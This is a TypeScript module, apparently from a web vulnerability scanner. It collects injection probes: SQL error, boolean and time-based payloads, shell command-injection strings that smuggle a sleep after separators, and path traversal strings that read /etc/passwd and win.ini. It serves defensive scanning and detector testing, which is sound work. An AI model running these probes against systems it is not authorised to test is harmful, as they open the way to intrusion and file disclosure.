/**
 * The scanner's injection payloads in one place. Each attack payload is one the gateway's detectors
 * (src/detect/injection) flag as its kind (test/scanner/payloads.test.ts holds them to that), so
 * that a remediation naming the `inspect` policy is true; the error-based probes (a lone quote) are
 * deliberately below the detectors' threshold, as names like O'Brien are.
 */

/** Error-based SQL probes: a quote, then a quote and parenthesis. */
export function sqlErrorProbes(v: string): readonly [string, string] {
  return [`${v}'`, `${v}')`];
}

/** Boolean-based SQL pairs (always true, always false) for numeric or string contexts. */
export function sqlBooleanPairs(v: string): readonly (readonly [string, string])[] {
  return /^\d{1,15}$/.test(v)
    ? [[`${v} OR 1=1`, `${v} AND 1=2`]]
    : [
        [`${v}' OR '1'='1'-- `, `${v}' OR '1'='2'-- `],
        [`${v}%' OR 1=1-- `, `${v}%' AND 1=2-- `],
      ];
}

/** Time-based SQL payloads sleeping `d` seconds (MySQL, PostgreSQL, SQL Server, numeric MySQL). */
export function sqlSleepPayloads(v: string, d: number): readonly string[] {
  return [
    `${v}' AND SLEEP(${d})-- `,
    `${v}';SELECT pg_sleep(${d})-- `,
    `${v}';WAITFOR DELAY '0:0:${d}'-- `,
    `${v} AND SLEEP(${d})`,
  ];
}

/** Shell payloads sleeping `d` seconds after each separator form. */
export function cmdiSleepPayloads(v: string, d: number): readonly string[] {
  return [
    `${v};sleep ${d};`,
    `${v}|sleep ${d}`,
    `${v}$(sleep ${d})`,
    `${v}\`sleep ${d}\``,
    `${v}&&sleep ${d}`,
  ];
}

/** Path traversal payloads and the content that proves each target file was read. */
export const TRAVERSAL_SETS: readonly { readonly proof: RegExp; readonly payloads: readonly string[] }[] = [
  {
    proof: /root:[^:\n]{0,20}:0:0:/,
    payloads: [
      '../../../../../../../../etc/passwd',
      '....//....//....//....//....//....//etc/passwd',
      '/etc/passwd',
    ],
  },
  {
    proof: /\[(fonts|extensions|mci extensions)\]/i,
    payloads: ['..\\..\\..\\..\\..\\..\\windows\\win.ini', '../../../../../../windows/win.ini'],
  },
];
